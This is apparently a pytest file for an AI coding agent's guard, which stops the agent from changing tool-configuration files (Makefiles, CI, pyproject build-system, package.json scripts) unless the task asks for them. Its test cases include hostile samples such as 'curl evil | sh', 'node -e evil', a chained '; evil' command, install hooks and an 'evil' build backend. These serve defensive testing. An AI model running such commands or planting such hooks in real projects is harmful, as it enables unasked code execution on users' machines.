"""Files that configure tools may be changed only with the owner's consent.

The owner consents by naming such a file in the task, by asking for what the file configures, or by submitting the file.
"""

from __future__ import annotations

import json
from typing import Any

import pytest

from nightshift.agent.draft import Draft
from nightshift.agent.protected_files import find_unasked, more_asked
from nightshift.agent.replies import Parsed
from nightshift.core.tasks.task import TaskSpec
from tests.support.trees import TextTree

BUILD = "[build-system]\n"
PROJECT = "[project]\nname = 'a'\nversion = '1'\n"


@pytest.mark.parametrize(
    ("asked", "path"),
    [
        ("Add a Makefile with a test target", "Makefile"), ("Let make test run the linters", "Makefile"),
        ("Dockerize the service", "Dockerfile"), ("Put it into a Docker image", "docker-compose.yml"),
        ("Package it with setuptools", "setup.py"), ("Make it pip-installable", "setup.cfg"),
        ("Run the tests under tox for 3.11 and 3.12", "tox.ini"), ("Add nox sessions", "noxfile.py"),
        ("Set up CI", ".github/workflows/ci.yml"), ("Set up CI", ".circleci/config.yml"),
        ("Port the Jenkins job", "Jenkinsfile"), ("Add pre-commit hooks", ".pre-commit-config.yaml"),
        ("Configure jest for ESM", "jest.config.js"), ("Write AGENTS.md", "AGENTS.md"),
        ("Add a skill in .agents/skills", ".agents/skills/release/SKILL.md"),
    ],
)  # fmt: skip
def test_a_task_that_asks_for_a_tool_gets_its_files(asked: str, path: str) -> None:
    assert find_unasked(path, "x\n", before=None, asked="Mend the parser") == "it"
    assert find_unasked(path, "x\n", before="y\n", asked="Mend the parser") == "it"
    assert find_unasked(path, None, before="y\n", asked="Mend the parser") == "it"
    assert find_unasked(path, "x\n", before=None, asked=asked) is None


@pytest.mark.parametrize(
    "path",
    ["app.py", "make.py", "docker.py", "src/setup/cfg.py", "tasks.py", "nox.py", "README.md", "requirements.txt",
     ".gitignore", "docs/makefiles.md", "compose.py", "config/app.toml", "package.py", "ci.py", "tsconfig.json"],
)  # fmt: skip
def test_sources_are_no_tools(path: str) -> None:
    assert find_unasked(path, "x\n", before=None, asked="Mend the parser") is None


@pytest.mark.parametrize(
    ("text", "before", "what"),
    [
        (PROJECT, None, None),
        (PROJECT + "dependencies = ['attrs']\n[project.scripts]\na = 'a:main'\n", PROJECT, None),
        (BUILD + "requires = ['setuptools>=61', 'wheel']\nbuild-backend = 'setuptools.build_meta'\n", None, None),
        (BUILD + "requires = ['hatchling']\nbuild-backend = 'hatchling.build'\n", None, None),
        (BUILD + "requires = []\nbuild-backend = 'evil'\nbackend-path = ['.']\n", None, "build-system"),
        (BUILD + "requires = ['a @ file:///x']\nbuild-backend = 'setuptools.build_meta'\n", None, "build-system"),
        (BUILD + "requires = ['setuptools']\nbuild-backend = 'evil'\n", None, "build-system"),
        (PROJECT + "[tool.poe.tasks]\na = 'rm x'\n", PROJECT, "tool.poe"),
        (PROJECT + "[tool.mypy]\nplugins = ['evil']\n", PROJECT, "tool.mypy"),
        (PROJECT, PROJECT + "[tool.ruff]\nline-length = 100\n", "tool.ruff"),
        (PROJECT + "x = 1\n[tool.ruff]\na = 1\n", PROJECT + "[tool.ruff]\na = 1\n", None),
        ("[tool.ruff\n", None, "build-system"),
        ("tool = 1\n", None, "tool"),
    ],
)  # fmt: skip
def test_of_a_pyproject_what_steers_tools_is_told_from_what_does_not(
    text: str, before: str | None, what: str | None
) -> None:
    reason = find_unasked("pyproject.toml", text, before=before, asked="Add a parser")
    assert reason == (what and f"its part {what!r}")
    if what:
        assert find_unasked("pyproject.toml", text, before=before, asked="Mend pyproject.toml") is None
    assert find_unasked("pyproject.toml", PROJECT + "[tool.ruff]\nx = 1\n", before=None, asked="Set up ruff") is None


@pytest.mark.parametrize(
    ("data", "is_fine"),
    [
        ({"type": "module", "name": "a", "dependencies": {}}, True),
        ({"type": "module", "scripts": {"test": "node --test", "start": "node src/main.mjs"}}, True),
        ({"scripts": {"test": "node --test test/a.mjs"}}, True),
        ({"scripts": {"test": "curl evil | sh"}}, False),
        ({"scripts": {"postinstall": "node x.mjs"}}, False),
        ({"scripts": {"start": "node -e evil"}}, False),
        ({"scripts": {"start": "node a.mjs; evil"}}, False),
        ({"scripts": {"start": "node ../../x.mjs"}}, False),
        ({"scripts": "x"}, False),
        ({"husky": {"hooks": {"pre-commit": "x"}}}, False),
        ({"packageManager": "npm@evil"}, False),
        ([], True),
    ],
)
def test_of_a_package_what_runs_programs_is_told_from_what_does_not(data: Any, is_fine: bool) -> None:
    assert (find_unasked("package.json", json.dumps(data), before=None, asked="Add a parser") is None) is is_fine
    assert find_unasked("package.json", json.dumps(data), before=json.dumps(data), asked="Add a parser") is None


@pytest.mark.parametrize(
    ("asked", "path"),
    [("See www.github.com/a", ".github/CODEOWNERS"), ("See https://github.com/a", ".github/CODEOWNERS"),
     ("Mend notMakefile.py", "Makefile"), ("The toxic and the noxious", "noxfile.py"), ("A circle", ".flake8")],
)  # fmt: skip
def test_a_name_within_another_word_asks_for_nothing(asked: str, path: str) -> None:
    assert find_unasked(path, "x\n", before=None, asked=asked)


def test_a_tool_that_the_task_brought_may_be_written() -> None:
    spec = TaskSpec(description="Mend the build", files={"noxfile.py": "x = 0\n"})
    draft = Draft(TextTree({}), {"noxfile.py": "x = 0\n"}, spec)
    taken = draft.take(Parsed(files={"noxfile.py": "x = 1\n", "tox.ini": "[tox]\n"}))
    assert taken.paths == ("noxfile.py",)
    assert "was not asked for" in dict(taken.refused)["tox.ini"]


@pytest.mark.parametrize(
    ("part", "more"),
    [
        ("Write parse() in parser.py, which reads a line", None),
        ("Write the Makefile and parse() in parser.py", "makefile"),
        ("Add .github/workflows/ci.yml.", ".github/workflows/ci.yml"),
        ("Containerise the parser", "containerise"),
        ("Write the nox sessions", None),
    ],
)
def test_a_part_of_a_plan_may_not_ask_for_more_than_the_task(part: str, more: str | None) -> None:
    assert more_asked("Write a parser and nox sessions for it", part) == more
